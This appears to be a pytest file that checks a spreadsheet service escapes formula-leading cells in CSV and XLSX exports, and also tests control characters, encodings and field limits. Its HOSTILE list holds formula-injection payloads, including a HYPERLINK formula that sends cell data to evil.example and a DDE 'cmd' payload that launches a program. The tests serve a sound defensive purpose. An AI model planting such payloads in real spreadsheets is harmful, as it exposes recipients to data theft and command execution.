"""Formula-leading cells are neutralised on export and restored on import."""

from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.files import read_sheet, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_cells_round_trip(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"t{suffix}"
    write_table(path, ["name", "n"], [[value, 7] for value in HOSTILE])
    sheet = read_sheet(path)
    # XML normalises a bare CR to LF, so in XLSX "\rx" is stored as "'\nx" (known limit: not restored).
    expected = HOSTILE if suffix == ".csv" else [*HOSTILE[:-1], "'\nx"]
    assert [values["name"] for _, values in sheet.rows] == expected
    if suffix == ".xlsx":
        cells = list(load_workbook(path).worksheets[0].iter_rows(min_row=2))
        assert [c[0].data_type for c in cells] == ["s"] * len(HOSTILE)
        assert [c[0].value for c in cells] == ["'" + v for v in HOSTILE[:-1]] + ["'\nx"]
        assert [c[1].value for c in cells] == [7] * len(HOSTILE)
    else:
        text = path.read_bytes().decode("utf-8-sig")
        assert "\"'=HYPERLINK" in text and "\n'@SUM(A1),7" in text and '"\'\rx"' in text


def test_stray_last_cell_does_not_stream_a_million_rows(tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["name", "company"])
    sheet.append(["Ana", "Acme"])
    sheet["XFD1048576"] = "x"
    path = tmp_path / "stray.xlsx"
    workbook.save(path)
    assert read_sheet(path).rows == [(2, {"name": "Ana", "company": "Acme"})]


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b"])
def test_control_characters_refused_naming_row_and_column(tmp_path: Path, char: str) -> None:
    from services.errors import DomainError

    path = tmp_path / "c.csv"
    path.write_text(f"name,company\nAna,Acme\nBo,A{char}b\n", encoding="utf-8")
    with pytest.raises(DomainError) as caught:
        read_sheet(path)
    assert str(caught.value) == f"{path}: row 3, company: control character U+{ord(char):04X} not allowed"


def test_invalid_bytes_in_both_encodings_name_the_offset(tmp_path: Path) -> None:
    from services.errors import DomainError

    path = tmp_path / "b.csv"
    path.write_bytes(b"name,company\nAna,A\x81b\n")
    with pytest.raises(DomainError) as caught:
        read_sheet(path)
    assert str(caught.value) == f"{path}: neither UTF-8 nor Windows-1252 (invalid byte at offset 18)"


def test_oversized_cell_gives_a_clear_error(tmp_path: Path) -> None:
    from services.errors import DomainError

    path = tmp_path / "big.csv"
    path.write_text("name,company\nAna," + "x" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(DomainError) as caught:
        read_sheet(path)
    assert str(caught.value) == f"{path}: line 2: field larger than field limit (131072)"
